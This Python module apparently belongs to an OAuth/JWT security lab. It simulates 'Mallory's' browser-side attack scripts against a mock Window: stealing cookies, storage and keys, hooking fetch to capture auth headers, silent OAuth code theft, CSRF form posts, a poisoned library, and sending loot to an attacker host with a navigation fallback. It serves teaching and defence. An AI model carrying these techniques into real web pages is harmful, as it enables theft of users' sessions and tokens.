"""In Python what Mallory's scripts do: each function is the twin of a file in ``scripts``. The attacker's side."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from typing import Any
from urllib.parse import quote, urlencode

from jwtlab.oauth import pkce
from jwtlab.oauth.browser_app.mallory import HERS
from jwtlab.oauth.browser_app.places import Places
from jwtlab.oauth.web.browser import Twin
from jwtlab.oauth.web.reply import Reply
from jwtlab.oauth.web.rules import Blocked
from jwtlab.oauth.web.window import CryptoKey, Window

Send = Callable[[Any], None]


def what_is_kept(window: Window, send: Send) -> None:
    loot: dict[str, Any] = {
        "cookie": window.cookie,
        "local": dict(window.local_storage),
        "session": dict(window.session_storage),
    }
    for name, kept in window.database.items():
        if isinstance(kept, CryptoKey):
            try:
                loot[name] = kept.export()
            except Blocked:
                loot[name] = "InvalidAccessError"
    send(loot)


def what_passes(window: Window, send: Send) -> None:
    real = window.fetch

    def listening(url: str, method: str = "GET", **options: Any) -> Reply:
        answer = real(url, method, **options)
        send({"url": url, "headers": dict(options.get("headers") or {})})
        return answer

    window.fetch = listening
    window.names["waits"] = True


def a_new_login(window: Window, send: Send) -> None:
    verifier = pkce.new_verifier(window.random)
    asked = {
        "response_type": "code",
        "client_id": window.data["client"],
        "redirect_uri": window.origin + window.data["callback"],
        "prompt": "none",
        "scope": "notes:read notes:write",
        "state": "mallory",
        "code_challenge": pkce.challenge(verifier),
        "code_challenge_method": "S256",
    }
    frame = window.frame(f"{window.data['issuer']}/authorize?{urlencode(asked)}")
    send({"address": window.look_into(frame).location, "verifier": verifier})


def through_the_page(window: Window, send: Send) -> None:
    notes = window.shown["notes"]
    window.shown["text"] = HERS
    window.click("add")
    send({"notes": notes})


PAYLOADS: Mapping[str, Callable[[Window, Send], None]] = {
    "what-is-kept": what_is_kept,
    "what-passes": what_passes,
    "a-new-login": a_new_login,
    "through-the-page": through_the_page,
}


def sender(window: Window, places: Places) -> Send:
    """How loot gets home: by a request, and if the policy forbids that, by going there."""
    real = window.fetch

    def send(loot: Any) -> None:
        body = json.dumps(loot)
        try:
            real(f"{places.mallory}/loot", "POST", mode="no-cors", body=body)
        except Blocked:
            window.navigate(f"{places.mallory}/loot?taken={quote(body)}")

    return send


def once(places: Places, action: Callable[[Window, Send], object]) -> Twin:
    """intruder.js: however often it is put into the page, it begins once."""

    def run(window: Window) -> None:
        if not window.names.get("mallory"):
            window.names["mallory"] = True
            action(window, sender(window, places))

    return run


def poisoned(script: Twin) -> Twin:
    """poisoned-library.js: a library with a script in it."""

    def run(window: Window) -> None:
        window.names["library"] = lambda: script(window)

    return run


def stranger_form(window: Window) -> None:
    """A page of hers posts a form by itself."""
    window.navigate(window.data["target"], form={"text": HERS})


def stranger_read(window: Window) -> None:
    """A page of hers asks with Alice's cookie, and tells her what came."""
    try:
        notes = window.fetch(window.data["target"], credentials="include").text
    except Blocked:
        notes = "blocked"
    window.fetch("/loot", "POST", body=json.dumps({"notes": notes}))


def twins(places: Places, payload: str) -> dict[str, Twin]:
    """All of hers; the poisoned library holds this payload."""
    mine = {name: once(places, action) for name, action in PAYLOADS.items()}
    return {
        **mine,
        "poisoned-library": poisoned(mine.get(payload, lambda window: None)),
        "stranger-form": stranger_form,
        "stranger-read": stranger_read,
    }
